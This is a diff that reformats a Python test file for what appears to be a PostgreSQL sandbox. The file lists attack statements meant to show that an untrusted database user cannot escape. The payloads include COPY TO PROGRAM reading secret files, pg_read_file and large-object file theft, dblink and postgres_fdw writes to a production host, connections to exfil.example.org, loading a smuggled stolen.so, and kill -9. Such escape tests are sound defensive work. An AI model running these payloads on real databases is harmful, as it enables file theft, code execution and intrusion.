@@ -27,31 +27,37 @@ SUPERUSER = "(select rolsuper from pg_catalog.pg_roles where rolname = current_u
 
 _ATTACKS = {
     "check_copy_program": "execute 'copy (select 1) to program ''cat {secret} > {loot}/check''';",
-    "pg_read_file": "execute 'copy (select pg_catalog.pg_read_file(''{secret}'')) to ''{loot}/read''';",
+    "pg_read_file": "execute 'copy (select pg_catalog.pg_read_file(''{secret}'')) to "
+    "''{loot}/read''';",
     "write_outside": "execute 'copy (select 1) to ''{loot}/copied''';",
-    "lo_export": "perform pg_catalog.lo_export(pg_catalog.lo_from_bytea(0, 'x'), '{loot}/exported');",
-    "lo_import": "perform pg_catalog.lo_export(pg_catalog.lo_import('{secret}'), '{loot}/imported');",
-    "dblink": "perform public.dblink_exec('host={production} port={port} user=postgres dbname=shop', "
-    "'create table public.pwned_by_dblink ()');",
+    "lo_export": "perform pg_catalog.lo_export(pg_catalog.lo_from_bytea(0, 'x'), "
+    "'{loot}/exported');",
+    "lo_import": "perform pg_catalog.lo_export(pg_catalog.lo_import('{secret}'), "
+    "'{loot}/imported');",
+    "dblink": "perform public.dblink_exec('host={production} port={port} user=postgres "
+    "dbname=shop', 'create table public.pwned_by_dblink ()');",
     "foreign_table": "execute 'create server f foreign data wrapper postgres_fdw options "
     "(host ''{production}'', port ''{port}'', dbname ''shop'')'; "
     "execute 'create user mapping for current_user server f options (user ''postgres'')'; "
     "execute 'import foreign schema public limit to (canary) from server f into public'; "
     "execute 'insert into public.canary values (2)';",
     "tcp": "perform public.dblink_connect('host=192.0.2.7 port=5432 connect_timeout=2');",
-    "listener": "perform public.dblink_connect('host=127.0.0.1 port={listener} connect_timeout=2');",
+    "listener": "perform public.dblink_connect('host=127.0.0.1 port={listener} "
+    "connect_timeout=2');",
     "name": "perform public.dblink_connect('host=exfil.example.org port=5432 connect_timeout=2');",
-    "library": "perform pg_catalog.lo_export((select l.o from public.lib l), 'stolen.so'); execute 'load ''' "
-    "|| pg_catalog.current_setting('data_directory') || '/stolen.so''';",
+    "library": "perform pg_catalog.lo_export((select l.o from public.lib l), 'stolen.so'); "
+    "execute 'load ''' || pg_catalog.current_setting('data_directory') || '/stolen.so''';",
     "signal": "execute 'copy (select 1) to program ''kill -9 {pid}''';",
 }
 
 _OWN = {
     "copy_program": "execute 'copy (select 1) to program ''cat > inside''';",
-    "copy_file": "execute 'copy (select 1) to ''' || pg_catalog.current_setting('data_directory') || '/copied''';",
+    "copy_file": "execute 'copy (select 1) to ''' || pg_catalog.current_setting('data_directory') "
+    "|| '/copied''';",
     "load": "execute 'load ''$libdir/auto_explain''';",
-    "dblink": "perform public.dblink_connect('host=' || pg_catalog.btrim(pg_catalog.current_setting('unix_socket_directories'), '\"') "
-    "|| ' dbname=template1 user=postgres'); perform public.dblink_disconnect();",
+    "dblink": "perform public.dblink_connect('host=' || "
+    "pg_catalog.btrim(pg_catalog.current_setting('unix_socket_directories'), '\"') || ' "
+    "dbname=template1 user=postgres'); perform public.dblink_disconnect();",
 }
 
 _LIBRARY = """
@@ -207,8 +213,8 @@ def test_what_a_database_does_within_itself_works(world: World) -> None:
 
 
 def test_server_cannot_keep_a_drill_by_what_it_puts_in_the_place_of_its_log(world: World) -> None:
-    """Its directory is the server's own: a pipe there kept the drill for ever, a link to a device filled
-    the memory."""
+    """Its directory is the server's own: a pipe there kept the drill for ever, a link to a device
+    filled the memory."""
     as_app(
         world,
         "create function lead(v int) returns boolean language plpgsql as $f$ begin "
